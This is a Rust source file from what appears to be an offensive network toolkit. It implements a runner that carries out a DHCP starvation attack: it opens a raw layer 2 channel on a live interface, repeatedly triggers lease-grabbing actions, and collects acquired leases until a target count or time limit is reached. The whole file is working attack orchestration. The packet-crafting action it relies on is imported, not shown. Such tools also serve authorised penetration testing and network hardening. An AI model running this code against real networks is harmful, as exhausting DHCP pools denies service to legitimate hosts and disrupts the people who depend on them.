//! Drives DHCP actions against a live link
//!
//! [`ActionRunner`] owns both execution paths: a periodic sender that calls
//! [`DhcpAction::trigger`] and a blocking receive loop that feeds replies to
//! [`DhcpAction::on_message`]. Both run off the async executor since
//! `trigger` may block on the correlator.

use crate::config::StarvationConfig;
use crate::listener::{run_receive_loop, Dispatcher, FrameSource};
use crate::socket::RawDhcpSocket;
use async_trait::async_trait;
use dstar_core::{
    AcquiredLease, Attack, AttackContext, Error, Interface, LeasePool, MemoryLeasePool, Result,
};
use dstar_dhcp::{ActionEvent, DhcpAction, DhcpSocket, StarvationAction};
use parking_lot::Mutex;
use std::sync::Arc;
use std::time::Instant;
use tokio::task;
use tracing::{debug, error, info};

pub struct ActionRunner {
    name: String,
    actions: Vec<Arc<dyn DhcpAction>>,
    socket: Arc<dyn DhcpSocket>,
    source: Mutex<Option<Box<dyn FrameSource>>>,
    pool: Arc<MemoryLeasePool>,
    config: StarvationConfig,
}

impl ActionRunner {
    pub fn new(
        actions: Vec<Arc<dyn DhcpAction>>,
        socket: Arc<dyn DhcpSocket>,
        source: Box<dyn FrameSource>,
        config: StarvationConfig,
    ) -> Result<Self> {
        config.validate()?;
        if actions.is_empty() {
            return Err(Error::invalid_parameter("actions", "at least one action is required"));
        }

        let name = actions
            .iter()
            .map(|a| a.name())
            .collect::<Vec<_>>()
            .join(", ");

        Ok(Self {
            name,
            actions,
            socket,
            source: Mutex::new(Some(source)),
            pool: Arc::new(MemoryLeasePool::new()),
            config,
        })
    }

    /// Starvation on a real interface, through a raw layer 2 channel
    pub fn starvation(interface: &Interface, config: StarvationConfig) -> Result<Self> {
        config.validate()?;
        let (tx, rx) = interface.open_channel(config.read_timeout)?;
        info!(interface = %interface.name, mac = %interface.mac_address, "Channel opened");

        let action: Arc<dyn DhcpAction> =
            Arc::new(StarvationAction::with_timeout(config.attempt_timeout));
        Self::new(
            vec![action],
            Arc::new(RawDhcpSocket::new(tx)),
            Box::new(rx),
            config,
        )
    }

    /// Pool the actions write acquired leases into
    pub fn pool(&self) -> Arc<MemoryLeasePool> {
        self.pool.clone()
    }

    pub fn leases(&self) -> Vec<AcquiredLease> {
        self.pool.snapshot()
    }

    pub fn actions(&self) -> &[Arc<dyn DhcpAction>] {
        &self.actions
    }

    fn stop_reason(&self, started: Instant) -> Option<&'static str> {
        if self
            .config
            .max_leases
            .is_some_and(|max| self.pool.len() >= max)
        {
            return Some("lease target reached");
        }
        if self
            .config
            .duration
            .is_some_and(|duration| started.elapsed() >= duration)
        {
            return Some("duration elapsed");
        }
        None
    }

    /// One round of triggers, run where blocking is allowed
    async fn trigger_all(&self) -> Result<Vec<ActionEvent>> {
        let actions = self.actions.clone();
        let socket = self.socket.clone();

        task::spawn_blocking(move || {
            actions
                .iter()
                .map(|action| action.trigger(socket.as_ref()))
                .collect::<Vec<_>>()
        })
        .await
        .map_err(|e| Error::ExecutionFailed(format!("Trigger task failed: {}", e)))
    }
}

#[async_trait]
impl Attack for ActionRunner {
    async fn execute(&self, ctx: AttackContext) -> Result<()> {
        let mut source = self
            .source
            .lock()
            .take()
            .ok_or_else(|| Error::attack("Runner already executed"))?;

        let dispatcher = Dispatcher::new(
            self.actions.clone(),
            self.socket.clone(),
            self.pool.clone(),
            ctx.stats.clone(),
        );
        let receiver = {
            let ctx = ctx.clone();
            task::spawn_blocking(move || run_receive_loop(source.as_mut(), &dispatcher, &ctx))
        };

        let started = Instant::now();
        info!(actions = %self.name, interval_ms = self.config.interval.as_millis() as u64, "Runner started");

        let mut outcome = Ok(());
        while ctx.is_running() {
            if let Some(reason) = self.stop_reason(started) {
                info!(leases = self.pool.len(), reason, "Stopping");
                break;
            }

            let events = match self.trigger_all().await {
                Ok(events) => events,
                Err(e) => {
                    error!(error = %e, "Trigger round failed, stopping");
                    ctx.stats.increment_errors();
                    outcome = Err(e);
                    break;
                }
            };
            for event in events {
                match event {
                    ActionEvent::SendFailed { .. } => ctx.stats.increment_errors(),
                    _ => ctx.stats.increment_packets_sent(),
                }
            }

            if receiver.is_finished() {
                debug!("Receive loop exited early");
                break;
            }

            tokio::time::sleep(self.config.interval).await;
        }

        ctx.stop();
        let received = receiver
            .await
            .map_err(|e| Error::ExecutionFailed(format!("Receive task failed: {}", e)))?;

        ctx.stats.set_leases_acquired(self.pool.len() as u64);
        info!(leases = self.pool.len(), "Runner finished");
        outcome.and(received)
    }

    fn name(&self) -> &str {
        &self.name
    }
}
